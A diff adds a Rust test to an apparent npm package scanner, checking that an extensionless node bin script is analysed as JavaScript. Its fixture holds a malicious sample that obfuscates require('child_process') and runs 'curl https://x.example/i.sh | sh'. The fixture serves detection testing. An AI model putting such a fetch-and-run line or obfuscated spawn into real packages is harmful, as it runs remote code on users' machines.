@@ -217,3 +217,55 @@ fn an_empty_file_is_rejected() {
     std::fs::write(&one, b"x").unwrap();
     assert_eq!(run(&["inspect", one.to_str().unwrap()]).0, 0);
 }
+
+/// An npm `bin` script without a JavaScript name (`bin/tool`, `#!/usr/bin/env node`) runs under
+/// node all the same. It used to get only the byte scan; it is analysed as JavaScript. A shell
+/// script and a text file starting with `#` are not.
+#[test]
+fn extensionless_node_script_is_analysed_as_javascript() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("t.tgz");
+    let evil: &[u8] = b"#!/usr/bin/env -S node --no-warnings\nconst c = require('child' + '_process');\nc.exec('curl https://x.example/i.sh | sh');\n";
+    let shell: &[u8] = b"#!/bin/sh\nnode -e \"require('child_process').exec('id')\"\n";
+    let text: &[u8] = b"# Notes\nrequire('child_process') is mentioned here.\n";
+    std::fs::write(
+        &path,
+        tgz(&[
+            (
+                "package/package.json",
+                br#"{"name":"t","version":"1.0.0","bin":{"tool":"bin/tool"}}"#,
+            ),
+            ("package/bin/tool", evil),
+            ("package/bin/helper", shell),
+            ("package/NOTES", text),
+        ]),
+    )
+    .unwrap();
+    let (code, out, err) = run(&["inspect", path.to_str().unwrap(), "--json"]);
+    assert_eq!(code, 0, "{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let kinds = |p: &str| -> Vec<String> {
+        v["entries"][p]["behaviours"]
+            .as_array()
+            .map(|a| {
+                a.iter()
+                    .filter_map(|b| b["kind"].as_str().map(str::to_string))
+                    .collect()
+            })
+            .unwrap_or_default()
+    };
+    assert!(
+        kinds("package/bin/tool").contains(&"process-spawn".to_string()),
+        "{:#}",
+        v["entries"]["package/bin/tool"]
+    );
+    assert!(v["entries"]["package/bin/tool"]["parse_error"].is_null());
+    for p in ["package/bin/helper", "package/NOTES"] {
+        assert!(
+            !kinds(p).contains(&"process-spawn".to_string()),
+            "{p}: {:#}",
+            v["entries"][p]
+        );
+        assert!(v["entries"][p]["parse_error"].is_null(), "{p}");
+    }
+}
